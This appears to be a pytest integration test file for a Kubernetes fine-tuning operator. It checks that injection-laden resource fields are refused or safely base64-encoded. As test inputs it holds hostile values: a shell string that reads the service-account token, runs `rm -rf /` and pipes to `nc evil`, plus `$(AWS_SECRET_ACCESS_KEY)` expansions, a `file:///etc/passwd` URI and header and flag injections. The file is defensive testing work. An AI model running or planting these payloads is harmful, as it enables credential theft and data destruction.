"""Hostile TaskFineTunes on the real API server: what reaches a name, a label, an
environment variable, a pod field or a shell is either refused at the door (by the API
server and by `anytasktune validate` alike) or rendered so that it cannot act.

- Refused at the door: names at and over the length limits, names KubeRay cannot use,
  unicode names, `$(…)` (Kubernetes expands it in env values), whitespace and newlines in
  what becomes an env value, an image or a URL, label values and keys that Kubernetes
  refuses (queueName, nodeSelector, tolerations), invalid ServiceAccount and Secret key names.
- Rendered safely: free text (instruction, dataset URIs, model ids, module names) with
  shell metacharacters, `$(…)`, backticks, quotes, newlines and unicode is accepted and
  reaches the Ray job only as base64 JSON in the RayJob's runtime env (KubeRay's submitter
  puts that into a bash "..." string): the entrypoint is a fixed string, no user text
  appears as such anywhere in the RayJob, and the spec in the RayJob the real operator
  created on the API server holds the text byte for byte. Every pod KubeRay would create
  from the RayJob is admitted by the API server.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from typing import Any

import kubernetes
import pytest
from kubernetes.client.rest import ApiException

from anytasktune.config import OperatorConfig
from anytasktune.render import spec_json_of
from anytasktune.spec import GROUP, MAX_NAME_PLUS_SUBTASK, PLURAL, VERSION
from anytasktune.validation import validate_object
from tests.integration.helpers import Kubectl, OperatorProcess, api_client_in_new_namespace, operator_serving, pod_refusals, taskfinetune, wait_for
from tests.kube.controlplane import ControlPlane

NAMESPACE = "hostile"
ENTRYPOINT = f"python -m {OperatorConfig().trainjob_module}"
SHELLISH = "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) `id` ${HOME} ; rm -rf / && echo 'x' \"y\" | nc evil 1 > /tmp/o"


def base(name: str = "hostile", sub: str = "kw") -> dict[str, Any]:
    return taskfinetune(name, [sub])


def at(*path: Any) -> Callable[[Any], Callable[[dict[str, Any]], None]]:
    """A mutation that sets one field: at("spec", "queueName")("x")."""
    def value(v: Any) -> Callable[[dict[str, Any]], None]:
        def mutate(obj: dict[str, Any]) -> None:
            cur = obj
            for key in path[:-1]:
                cur = cur.setdefault(key, {}) if isinstance(key, str) else cur[key]
            cur[path[-1]] = v
        return mutate
    return value


# (id, mutation): each must be refused by the API server and by `anytasktune validate`.
REFUSED: list[tuple[str, Callable[[dict[str, Any]], None]]] = [
    ("name-plus-subtask-43", lambda o: (o["metadata"].update(name="n" * (MAX_NAME_PLUS_SUBTASK - 1)), None)[1]),
    ("name-starts-with-a-digit", at("metadata", "name")("1legal")),
    ("name-with-a-dot", at("metadata", "name")("legal.v2")),
    ("name-uppercase", at("metadata", "name")("Legal")),
    ("name-unicode", at("metadata", "name")("légal")),
    ("name-254-chars", at("metadata", "name")("a" * 254)),
    ("label-value-with-space", at("metadata", "labels")({"team": "legal ops"})),
    ("label-key-expansion", at("metadata", "labels")({"$(x)": "a"})),
    ("annotation-key-space", at("metadata", "annotations")({"a b": "free text is fine here"})),
    ("subtask-unicode", at("spec", "subtasks", 0, "name")("kw-é")),
    ("subtask-41-chars", at("spec", "subtasks", 0, "name")("k" * 41)),
    ("subtask-shell", at("spec", "subtasks", 0, "name")("kw;id")),
    ("domain-shell", at("spec", "domain")("legal$(id)")),
    ("queue-with-space", at("spec", "queueName")("team a")),
    ("queue-with-expansion", at("spec", "queueName")("$(HOME)")),
    ("queue-64-chars", at("spec", "queueName")("q" * 64)),
    ("node-selector-key-space", at("spec", "cluster", "nodeSelector")({"gpu type": "a100"})),
    ("node-selector-key-expansion", at("spec", "cluster", "nodeSelector")({"$(HOME)": "x"})),
    ("node-selector-value-space", at("spec", "cluster", "nodeSelector")({"gpu": "a 100"})),
    ("node-selector-value-64", at("spec", "cluster", "nodeSelector")({"gpu": "v" * 64})),
    ("node-selector-value-unicode", at("spec", "cluster", "nodeSelector")({"gpu": "ä100"})),
    ("toleration-key-space", at("spec", "cluster", "tolerations")([{"key": "a b", "operator": "Exists"}])),
    ("toleration-value-expansion", at("spec", "cluster", "tolerations")([{"key": "gpu", "operator": "Equal", "value": "$(x)"}])),
    ("toleration-without-key-or-exists", at("spec", "cluster", "tolerations")([{"effect": "NoSchedule"}])),
    ("toleration-exists-with-value", at("spec", "cluster", "tolerations")([{"key": "gpu", "operator": "Exists", "value": "x"}])),
    ("toleration-seconds-without-noexecute", at("spec", "cluster", "tolerations")([{"key": "gpu", "tolerationSeconds": 5}])),
    ("service-account-underscore", at("spec", "cluster", "serviceAccountName")("my_sa")),
    ("service-account-slash", at("spec", "cluster", "serviceAccountName")("a/b")),
    ("region-expansion", at("spec", "storage", "region")("$(AWS_SECRET_ACCESS_KEY)")),
    ("region-shell", at("spec", "storage", "region")("us-east-1; id")),
    ("endpoint-space", at("spec", "storage", "endpoint")("http://s3 .local")),
    ("endpoint-newline", at("spec", "storage", "endpoint")("http://s3.local\nX-Injected: 1")),
    ("endpoint-expansion", at("spec", "storage", "endpoint")("http://$(HOST):9000")),
    ("cache-path-expansion", at("spec", "baseModel")({"id": "Org/Model", "cachePath": "$(HOME)/models"})),
    ("cache-path-relative", at("spec", "baseModel")({"id": "Org/Model", "cachePath": "models/hf"})),
    ("cache-path-newline", at("spec", "baseModel")({"id": "Org/Model", "cachePath": "/models\n/hf"})),
    ("image-space", at("spec", "cluster", "image")("registry.test/trainjob:1 --privileged")),
    ("image-leading-space", at("spec", "cluster", "image")(" registry.test/trainjob:1")),
    ("image-expansion", at("spec", "cluster", "image")("$(IMAGE)")),
    ("secret-key-space", at("spec", "storage", "credentialsSecret")({"name": "s3", "accessKeyIdKey": "ACCESS KEY"})),
    ("secret-key-expansion", at("spec", "storage", "credentialsSecret")({"name": "s3", "secretAccessKeyKey": "$(K)"})),
    ("ray-version-shell", at("spec", "cluster", "rayVersion")("2.60.0; id")),
    ("dataset-uri-newline", at("spec", "subtasks", 0, "dataset", "uri")("s3://datasets/kw.jsonl\n")),
    ("dataset-uri-not-s3", at("spec", "subtasks", 0, "dataset", "uri")("file:///etc/passwd")),
]


# Free text that only the trainjob reads: accepted, and carried as base64 of the spec's JSON.
FREE_TEXT = {
    "instruction": SHELLISH + "\nline two\r\n\t'single' \"double\" \\backslash\\ 中文 😀 \u202eRTL\u200d \x00nul",
    "uri": "s3://datasets/odd dir/$(id)/`x`/'q'/\"d\"/ü/k;ey.jsonl",
    "model": "Org/Model-$(id)`x`;'\"",
    "module": "q_proj; $(id) `x`",
}


def hostile_but_valid(name: str = "freetext") -> dict[str, Any]:
    obj = taskfinetune(name, ["kw"])
    sub = obj["spec"]["subtasks"][0]
    sub["instruction"] = FREE_TEXT["instruction"]
    sub["dataset"]["uri"] = FREE_TEXT["uri"]
    obj["spec"]["baseModel"] = {"id": FREE_TEXT["model"], "cachePath": "/models/hf"}
    obj["spec"]["defaults"] = {"lora": {"targetModules": [FREE_TEXT["module"], "v_proj"]}}
    obj["spec"]["queueName"] = "team-a.gpu-1"
    obj["spec"]["cluster"].update(nodeSelector={"nvidia.com/gpu.product": "A100-SXM4-80GB", "pool": "gpu"},
                                  tolerations=[{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
                                  serviceAccountName="trainer.team-a", image="registry.test:5000/team/trainjob:1.2@sha256:" + "a" * 64)
    obj["spec"]["storage"].update(region="eu-west-3", endpoint="https://s3.eu-west-3.example.com:8443/path")
    return obj


@pytest.fixture(scope="module")
def api(control_plane: ControlPlane) -> kubernetes.client.ApiClient:
    return api_client_in_new_namespace(control_plane, NAMESPACE, "hostile-test")


def server_accepts(api: kubernetes.client.ApiClient, obj: dict[str, Any]) -> tuple[bool, str]:
    try:
        kubernetes.client.CustomObjectsApi(api).create_namespaced_custom_object(
            GROUP, VERSION, NAMESPACE, PLURAL, obj, dry_run="All", field_validation="Strict")
        return True, ""
    except ApiException as err:
        return False, str(err.body)[:400]


@pytest.mark.parametrize(("case", "mutate"), REFUSED, ids=[c for c, _ in REFUSED])
def test_refused_at_the_door(api: kubernetes.client.ApiClient, case: str, mutate: Callable[[dict[str, Any]], None]) -> None:
    obj = base()
    mutate(obj)
    accepted, message = server_accepts(api, obj)
    assert not accepted, f"{case}: the API server accepts {json.dumps(obj)[:600]}"
    assert validate_object(copy.deepcopy(obj)), f"{case}: `anytasktune validate` accepts what the API server refuses: {message}"


def test_the_limits_themselves_are_accepted(api: kubernetes.client.ApiClient) -> None:
    """The door is not shut too far: exactly 42 characters of name + sub-task, a 40-character
    sub-task, a 63-character label value, the free text above."""
    at_limit = base("n" * (MAX_NAME_PLUS_SUBTASK - 2), "kw")
    longest_sub = base("a", "s" * 40)
    label = base()
    label["spec"]["queueName"] = "q" * 63
    label["spec"]["cluster"]["nodeSelector"] = {"example.com/" + "k" * 63: "v" * 63}
    for obj in (at_limit, longest_sub, label, hostile_but_valid()):
        accepted, message = server_accepts(api, obj)
        assert accepted, f"refused: {message}\n{json.dumps(obj)[:600]}"
        assert validate_object(copy.deepcopy(obj)) == []


@pytest.fixture(scope="module")
def created(api: kubernetes.client.ApiClient, control_plane: ControlPlane, tmp_path_factory: pytest.TempPathFactory
            ) -> Iterator[dict[str, Any]]:
    """The real operator's RayJob for the free-text TaskFineTune."""
    k = Kubectl(control_plane.env())
    with operator_serving(control_plane.env(), tmp_path_factory.mktemp("hostile-operator")) as operator:
        k.apply(hostile_but_valid(), NAMESPACE)
        job = wait_for("the RayJob", lambda: k.rayjobs(NAMESPACE).get("freetext-kw-1"), timeout=90)
        assert isinstance(operator, OperatorProcess)
        yield job


def strings_in(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from strings_in(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings_in(v)


def test_free_text_reaches_the_ray_job_only_as_base64(created: dict[str, Any]) -> None:
    job = created
    assert job["spec"]["entrypoint"] == ENTRYPOINT
    for text in FREE_TEXT.values():
        for s in strings_in(job):
            assert text not in s, f"user text in the RayJob: {s[:200]!r}"
    # No field of the RayJob holds a shell metacharacter or an expansion at all.
    for s in strings_in(job["spec"]):
        assert "$(" not in s and "`" not in s and "\n" not in s, f"{s[:200]!r}"
    spec = json.loads(spec_json_of(job))
    assert spec["instruction"] == FREE_TEXT["instruction"]
    assert spec["dataset"]["uri"] == FREE_TEXT["uri"]
    assert spec["baseModel"]["id"] == FREE_TEXT["model"]
    assert FREE_TEXT["module"] in spec["lora"]["targetModules"]


def test_every_pod_kuberay_would_create_is_admitted(api: kubernetes.client.ApiClient, created: dict[str, Any]) -> None:
    job = created
    refused = pod_refusals(kubernetes.client.CoreV1Api(api), NAMESPACE, job["spec"])
    assert not refused, refused


def test_env_values_are_what_the_spec_says(created: dict[str, Any]) -> None:
    """Kubernetes expands $(VAR) in env values; what reaches env must hold none (the door
    refuses `$` there), so the pod sees the spec's text unchanged."""
    job = created
    head = job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
    env = {e["name"]: e.get("value") for e in head["env"]}
    assert env["AWS_REGION"] == "eu-west-3" and env["AWS_ENDPOINT_URL_S3"] == "https://s3.eu-west-3.example.com:8443/path"
    assert env["HF_HOME"] == "/models/hf"
    assert all("$(" not in (v or "") for v in env.values())
